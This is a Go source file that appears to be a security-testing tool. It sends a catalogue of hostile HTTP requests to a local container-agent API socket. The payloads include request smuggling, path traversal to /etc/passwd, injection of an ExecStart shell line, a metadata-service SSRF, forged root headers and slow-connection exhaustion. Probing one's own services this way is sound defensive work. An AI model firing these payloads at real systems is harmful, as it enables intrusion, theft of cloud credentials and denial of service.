package main

import (
	"context"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"time"
)

const (
	// patience is how long a client waits for more answers.
	patience  = 3 * time.Second
	apiSocket = "/run/dockhost/agent.sock"
	head      = "GET /v1/status HTTP/1.1\r\nHost: dockhost\r\n"
	update    = "POST /v1/containers/app/stop HTTP/1.1\r\nHost: dockhost\r\n"
)

// socketAttacks are what a client writes to the socket of the local API.
func socketAttacks() map[string]string {
	return map[string]string{
		"two-lengths":        update + "Content-Length: 0\r\nContent-Length: 60\r\n\r\n" + update + "\r\n",
		"length-and-chunks":  head + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + update + "Content-Length: 0\r\n\r\n",
		"folded-header":      head + "Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n" + update + "\r\n",
		"space-before-colon": head + "Content-Length : 5\r\n\r\n" + update + "\r\n",
		"bare-newlines":      strings.ReplaceAll(head, "\r\n", "\n") + "\n" + strings.ReplaceAll(update, "\r\n", "\n") + "\n",
		"pipeline":           strings.Repeat(head+"\r\n", 100) + update + "Content-Length: 0\r\n\r\n",
		"upgrade":            head + "Connection: Upgrade\r\nUpgrade: tcp\r\n\r\n" + update + "\r\n",
		"http2":              "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00",
		"huge-header":        head + "X-Huge: " + strings.Repeat("x", 8<<20) + "\r\n\r\n",
		"many-headers":       head + strings.Repeat("X-Many: x\r\n", 200_000) + "\r\n",
		"huge-path":          "GET /v1/containers/" + strings.Repeat("a", 4<<20) + "/progress HTTP/1.1\r\nHost: dockhost\r\n\r\n",
		"absolute-url":       "GET http://169.254.169.254/latest/user-data HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n",
		"path-with-dots":     "DELETE /v1/containers/../../../etc/passwd HTTP/1.1\r\nHost: dockhost\r\n\r\n",
		"path-encoded":       "DELETE /v1/containers/..%2f..%2f..%2fetc%2fpasswd HTTP/1.1\r\nHost: dockhost\r\n\r\n",
		"path-with-newline":  "PUT /v1/containers/a%0aExecStart=%2fbin%2fsh HTTP/1.1\r\nHost: dockhost\r\nContent-Length: 2\r\n\r\n{}",
		"path-with-nul":      "POST /v1/containers/app%00/stop HTTP/1.1\r\nHost: dockhost\r\n\r\n",
		"other-method":       "GET /v1/containers/app/stop HTTP/1.1\r\nHost: dockhost\r\nX-HTTP-Method-Override: POST\r\n\r\n",
		"not-http":           "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + ugly + "\r\n\r\n",
		"huge-body":          update + "Content-Length: 9223372036854775807\r\n\r\n" + strings.Repeat("x", 4<<20),
		"body-of-a-reader":   head + "Content-Length: 2000000\r\n\r\n" + strings.Repeat("x", 2_000_000),
		"forged-peer":        update + "X-Forwarded-For: root\r\nBy: root\r\nRemote-User: root\r\nContent-Length: 0\r\n\r\n",
	}
}

// attackSocket writes an attack to the socket, and prints what comes back. "half-requests" opens connections that never
// send the rest, as many as it may, and holds them.
func attackSocket(ctx context.Context, args []string) error {
	if len(args) > 0 && args[0] == "half-requests" {
		return holdHalfRequests(ctx)
	}
	text, err := pick(socketAttacks(), args)
	if err != nil {
		return err
	}
	conn, err := new(net.Dialer).DialContext(ctx, "unix", apiSocket)
	if err != nil {
		return err
	}
	defer conn.Close()
	if err := conn.SetDeadline(time.Now().Add(patience)); err != nil {
		return err
	}
	go func() { _, _ = io.WriteString(conn, text) }()
	answers, err := io.ReadAll(io.LimitReader(conn, 4<<20))
	_, _ = fmt.Fprintf(os.Stdout, "%s\n(%v)\n", answers, err)
	return nil
}

func holdHalfRequests(ctx context.Context) error {
	const half = 300
	for range half {
		conn, err := new(net.Dialer).DialContext(ctx, "unix", apiSocket)
		if err != nil {
			return err
		}
		defer conn.Close()
		_, _ = io.WriteString(conn, head) // above its limits the agent closes the connection
	}
	_, _ = fmt.Fprintln(os.Stdout, "holds")
	<-ctx.Done()
	return nil
}
